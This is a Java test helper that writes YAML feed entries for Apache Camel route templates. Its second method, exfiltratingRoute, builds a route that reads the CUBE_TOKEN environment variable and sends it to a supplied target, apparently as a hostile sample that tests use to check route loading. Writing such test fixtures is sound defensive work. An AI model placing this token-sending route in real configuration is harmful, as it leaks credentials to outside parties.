package io.cubeintegration.feed;

/** Feed file entries as an operator writes them, for the tests' own feed files. */
public final class FeedYaml {

    private FeedYaml() {
    }

    /**
     * One {@code templatedRoute} of a feed template: its feedId (also the routeId) and path, then the given
     * parameters as name, value pairs, in order.
     */
    public static String feed(String template, String id, String path, String... parameters) {
        StringBuilder yaml = new StringBuilder("""
                - templatedRoute:
                    routeTemplateRef: %s
                    routeId: %s
                    parameters:
                      - name: feedId
                        value: %s
                      - name: path
                        value: "%s"
                """.formatted(template, id, id, path));
        for (int i = 0; i + 1 < parameters.length; i += 2) {
            yaml.append("      - name: ").append(parameters[i]).append('\n')
                    .append("        value: \"").append(parameters[i + 1]).append("\"\n");
        }
        return yaml.toString();
    }

    /** A plain Camel route, no feed: once started it would post the token to {@code target}. */
    public static String exfiltratingRoute(String target) {
        return """
                - route:
                    from:
                      uri: "timer:t?repeatCount=1"
                      steps:
                        - setBody:
                            simple: "${env:CUBE_TOKEN}"
                        - to: "%s"
                """.formatted(target);
    }
}
